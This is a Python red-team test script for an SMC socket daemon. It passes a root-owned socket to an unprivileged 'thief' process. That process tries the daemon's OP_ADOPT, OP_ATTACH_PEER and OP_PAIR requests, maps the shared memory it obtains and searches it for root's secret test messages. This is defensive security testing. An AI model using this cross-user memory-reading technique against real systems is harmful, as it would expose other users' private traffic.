#!/usr/bin/env python3
"""red6: another uid given an SMC socket reads what its owner sends, through OP_ATTACH_PEER.

Run as root: tests/redteam/world.sh smc python3 tests/redteam/rt6_attach.py

- R (root, with the library) connects to a server Q (root, with the library; SMC-D), sends
  "ROOT-SECRET-1 ..." and Q reads it.
- R hands its socket to a process of uid nobody (SCM_RIGHTS; a privilege-separated worker
  that is to continue the conversation), keeps its own copy, and later sends "ROOT-SECRET-2".
- The nobody process does not use the library: it speaks the daemon protocol itself. OP_ADOPT
  (ADOPT_OWN, ADOPT_PEER, ADOPT_STATE) is refused (BadProof: SECURITY.md, "adopted only by the
  owner's uid, cgroup and pid namespace"); then it sends OP_ATTACH_PEER with the same socket
  (and OP_PAIR), maps the memfd it gets and looks for the secrets.

Expected: every request refused, nothing read (TCP never shows a socket's holder what another
holder sent). Observed: printed.
"""
import array
import mmap
import os
import socket
import struct
import subprocess
import sys
import time

SOCK = os.environ.get("SMC_CTL_SOCK", "/run/smc/ctl.sock")
MAGIC = 0x49434D53
STATUS = {0: "Ok", 1: "Malformed", 10: "BadSocket", 11: "StaleToken", 12: "BadProof",
          13: "NotHeld", 14: "Internal", 16: "NoPeer", 6: "MaxDmb", 7: "QuotaDmbs", 9: "Mem"}
OP_QUERY_GID, OP_ATTACH_PEER, OP_ADOPT, OP_PAIR = 1, 10, 11, 12
seq = [0]


def req(d, op, payload=b"", fd=None):
    seq[0] += 1
    rec = struct.pack("<IHHII", MAGIC, 1, op, len(payload), seq[0]) + payload
    anc = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))] if fd is not None else []
    d.sendmsg([rec], anc)
    while True:
        msg, ancdata, _, _ = d.recvmsg(512, socket.CMSG_SPACE(8 * 4))
        fds = []
        for lvl, typ, data in ancdata:
            if lvl == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
                a = array.array("i")
                a.frombytes(data[: len(data) - len(data) % a.itemsize])
                fds.extend(a)
        _, _, rop, _, rseq = struct.unpack("<IHHII", msg[:16])
        if rseq != seq[0]:
            for f in fds:
                os.close(f)
            continue
        status, detail = struct.unpack("<II", msg[16:24])
        return status, detail, msg[24:], fds


def scan(fds, what):
    found = []
    for f in fds:
        try:
            size = os.fstat(f).st_size
            m = mmap.mmap(f, size, mmap.MAP_SHARED, mmap.PROT_READ)
        except OSError:
            continue
        data = m[:]
        m.close()
        i = 0
        while True:
            i = data.find(b"ROOT-SECRET", i)
            if i < 0:
                break
            line = data[i:i + 64].split(b"\n")[0].split(b"\0")[0].decode(errors="replace")
            if line not in found:
                found.append(line)
            i += 1
    print("nobody (%s): %s" % (what, ("READ " + " | ".join(found)) if found else "nothing read"))
    sys.stdout.flush()


def thief(pfd):
    p = socket.socket(fileno=pfd)
    msg, ancdata, _, _ = p.recvmsg(16, socket.CMSG_SPACE(4))
    s = array.array("i")
    s.frombytes(ancdata[0][2][:4])
    s = s[0]
    print("nobody (uid %d) holds root's SMC socket (fd %d)" % (os.getuid(), s))
    d = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    d.connect(SOCK)
    st, det, res, _ = req(d, OP_QUERY_GID)
    got = []
    for which, name in ((0, "ADOPT_OWN"), (1, "ADOPT_PEER"), (2, "ADOPT_STATE")):
        st, det, res, fds = req(d, OP_ADOPT, bytes([which, 1, 0, 0, 0, 0, 0, 0]), s)
        print("nobody: OP_ADOPT %s -> %s" % (name, STATUS.get(st, st)))
        got += fds
    st, det, res, fds = req(d, OP_ATTACH_PEER, b"", s)
    print("nobody: OP_ATTACH_PEER -> %s, %d fd(s)" % (STATUS.get(st, st), len(fds)))
    got += fds
    pair = struct.pack("<BBHIQ", 0, 0, 0, 0, 0)
    st, det, res, fds = req(d, OP_PAIR, pair, s)
    print("nobody: OP_PAIR -> %s, %d fd(s)" % (STATUS.get(st, st), len(fds)))
    got += fds
    sys.stdout.flush()
    scan(got, "after the handover")
    p.send(b"1")
    p.recv(1)
    time.sleep(0.3)
    scan(got, "after root's next send")
    p.send(b"2")


def main():
    if len(sys.argv) > 2 and sys.argv[1] == "thief":
        thief(int(sys.argv[2]))
        return
    l = socket.socket()
    l.bind(("127.0.0.1", 0))
    l.listen()
    port = l.getsockname()[1]
    qpid = os.fork()
    if qpid == 0:
        c, _ = l.accept()
        total = b""
        while True:
            b = c.recv(4096)
            if not b:
                break
            total += b
        print("server Q read: %r" % total)
        sys.stdout.flush()
        os._exit(0)
    l.close()
    r = socket.create_connection(("127.0.0.1", port))
    r.sendall(b"ROOT-SECRET-1 password=hunter2\n")
    time.sleep(0.3)
    a, b = socket.socketpair()
    env = {k: v for k, v in os.environ.items() if k != "LD_PRELOAD"}
    t = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
                          sys.executable, os.path.abspath(__file__), "thief", str(b.fileno())],
                         pass_fds=[b.fileno()], env=env)
    b.close()
    a.sendmsg([b"s"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [r.fileno()]))])
    a.recv(1)
    r.sendall(b"ROOT-SECRET-2 sent after the handover\n")
    a.send(b"g")
    a.recv(1)
    t.wait()
    r.shutdown(socket.SHUT_WR)
    os.waitpid(qpid, 0)
    r.close()


main()
